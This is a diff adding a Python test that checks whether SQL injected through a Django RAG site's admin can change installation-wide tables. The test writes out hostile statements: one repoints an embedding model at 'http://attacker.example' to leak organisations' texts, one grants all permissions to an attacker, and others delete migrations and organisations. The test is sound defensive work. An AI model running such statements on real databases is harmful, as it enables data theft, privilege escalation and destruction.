@@ -219,3 +219,39 @@ def test_sql_injected_into_the_admin_configures_no_sign_in(live_world: World) ->
             assert not injection.execute(statement), statement
     with injection.web_process(), identity.run_as(identity.of_staff(live_world.users["owner"].pk)):
         assert injection.execute(statements[1]) == [(1,)], "the owner holds every permission"
+
+
+# What concerns the whole installation: whoever changes a model's address is sent the texts of all organisations.
+OF_THE_INSTALLATION = (
+    "UPDATE rag_embeddingmodel SET base_url = 'http://attacker.example' RETURNING 1",
+    "INSERT INTO accounts_user_user_permissions (user_id, permission_id) "
+    "SELECT '{attacker}', id FROM auth_permission RETURNING 1",
+    "INSERT INTO auth_group (name) VALUES ('x') RETURNING 1",
+    "DELETE FROM django_migrations RETURNING 1",
+    "DELETE FROM django_content_type RETURNING 1",
+    "UPDATE orgs_organization SET max_chunks = 2000000000 RETURNING 1",
+    "UPDATE orgs_organization SET queries_per_minute = 1000000 RETURNING 1",
+    "UPDATE orgs_organization SET slug = 'another' RETURNING 1",
+    "DELETE FROM orgs_organization RETURNING 1",
+)
+
+
+def test_sql_injected_into_the_admin_changes_nothing_of_the_installation(live_world: World) -> None:
+    live_world.source()
+    owner = live_world.users["owner"]
+    with injection.web_process(), identity.run_as(identity.of_staff(owner.pk)):
+        for statement in OF_THE_INSTALLATION:
+            injection.next_request()
+            assert injection.execute(statement.format(attacker=owner.pk)) is None, statement
+    unprotected = (
+        "SELECT relname FROM pg_class JOIN pg_namespace n ON n.oid = relnamespace WHERE nspname = 'public' "
+        "AND relkind = 'r' AND NOT relrowsecurity AND NOT EXISTS (SELECT FROM pg_trigger "
+        "WHERE tgrelid = pg_class.oid AND tgname = 'protect_installation') AND "
+        "has_table_privilege('ragsite_staff', pg_class.oid, 'INSERT, UPDATE, DELETE')"
+    )
+    assert injection.execute(unprotected) == [], "tables without row-level security that pages may change"
+    User.objects.filter(pk=owner.pk).update(is_superuser=True)
+    with injection.web_process(), identity.run_as(identity.of_staff(owner.pk)):
+        for statement in (OF_THE_INSTALLATION[2], OF_THE_INSTALLATION[5]):
+            injection.next_request()
+            assert {(1,)} == set(injection.execute(statement) or ()), "superusers may"
